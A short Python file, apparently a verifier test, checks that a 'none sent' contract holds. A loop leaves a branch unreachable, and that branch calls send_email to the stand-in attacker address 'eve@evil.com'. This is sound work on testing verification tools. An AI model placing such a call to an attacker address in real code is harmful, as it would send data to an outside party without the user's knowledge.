# proved: the loop ends only when the condition does not hold
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import number, send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    n = number()
    while n > 3:
        n = number()
    if n > 3:
        send_email("eve@evil.com", "x")
